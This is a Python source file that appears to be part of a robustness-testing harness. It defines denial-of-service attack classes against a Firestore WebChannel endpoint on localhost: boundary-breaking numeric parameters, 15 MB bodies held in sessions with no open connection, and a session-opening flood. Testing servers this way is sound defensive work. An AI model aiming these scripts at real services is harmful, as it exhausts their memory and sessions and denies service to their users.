"""Attacks by WebChannel."""

import json
import re
import urllib.parse

from attacks.traffic import ANSWER, Attack

_OPENED = re.compile(rb'x-http-session-id: *(\S+).*?\["c" *, *"([^"]+)"', re.IGNORECASE | re.DOTALL)
NUMBERS = (
    "-9223372036854775808", "9223372036854775807", "9223372036854775808", "-1", "18446744073709551616",
    "1e308", "", "0x10", "+1", "\u0661",
)


class WebChannelAttack(Attack):
    """Sessions of browsers' streams by HTTP/1.1."""

    protocol = "http/1.1"

    def request(self, verb, method, body=None, **parameters):
        fixed = {"VER": "8", "database": self.database, "zx": "z", "t": "1"}
        query = urllib.parse.urlencode(fixed | parameters)
        head = f"{verb} /google.firestore.v1.Firestore/{method}/channel?{query} HTTP/1.1\r\nHost: localhost\r\n"
        if body is None:
            return f"{head}\r\n".encode()
        head += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n"
        return head.encode() + body

    def form(self, *maps, offset=0, **more):
        fields = {"count": len(maps), "ofs": offset} | more
        fields |= {f"req{number}___data__": text for number, text in enumerate(maps)}
        return urllib.parse.urlencode(fields).encode()

    def opening(self, method, *maps):
        maps = maps or (json.dumps({"database": self.database}),)
        body = self.form(*maps, headers="Content-Type:text/plain\r\n")
        return self.request("POST", method, body, RID=4711, CVER=22, **{"X-HTTP-Session-Id": "gsessionid"})

    def open(self, method, *maps):
        """Opens a session; gives the parameters that name it."""
        yield self.opening(method, *maps)
        text, found = b"", None
        while not found and (piece := (yield ANSWER)):
            text += piece
            found = _OPENED.search(text)
        return {"SID": found[2].decode(), "gsessionid": found[1].decode()} if found else {"SID": "none"}


class ImpossibleNumbers(WebChannelAttack):
    """Numbers that no client has: acknowledged, offset, count and request numbers beyond all bounds."""

    links = 16
    opening_rate = 100
    fields = ("GET AID", "GET RID", "GET CI", "POST AID", "POST RID", "FORM count", "FORM ofs")

    def script(self, number):
        value = NUMBERS[number // len(self.fields) % len(NUMBERS)]
        where, name = self.fields[number % len(self.fields)].split()
        method = ("Listen", "Write")[number % 2]
        session = yield from self.open(method)
        forth = {"RID": 4712, "AID": 0} | session
        if where == "GET":
            back = {"RID": "rpc", "AID": 0, "CI": 1, "TYPE": "xmlhttp"} | session
            yield self.request("GET", method, **back | {name: value})
        elif where == "POST":
            yield self.request("POST", method, self.form("{}", offset=1), **forth | {name: value})
        else:
            fields = {"count": 1, "ofs": 1, "req0___data__": "{}"} | {name: value}
            yield self.request("POST", method, urllib.parse.urlencode(fields).encode(), **forth)
        yield ANSWER


class SessionsWithoutConnection(WebChannelAttack):
    """Sessions that keep 15 MB each while none of their connections is open: messages ahead of one that
    never comes."""

    links = 16

    def __init__(self, project, chooser):
        super().__init__(project, chooser)
        before, after = self.form(json.dumps({"labels": {"a": "-"}}), offset=5).split(b"-")
        self.body = before + b"x" * 15_000_000 + after

    def script(self, number):
        method = ("Listen", "Write")[number % 2]
        session = yield from self.open(method)
        yield self.request("POST", method, self.body, RID=4712, AID=0, **session)
        yield ANSWER


class SessionFlood(WebChannelAttack):
    """All the sessions that the server keeps, opened from one address and left alone."""

    links = 32
    seconds = 20

    def script(self, number):
        opening = self.opening("Listen")
        while True:
            yield opening
            yield ANSWER
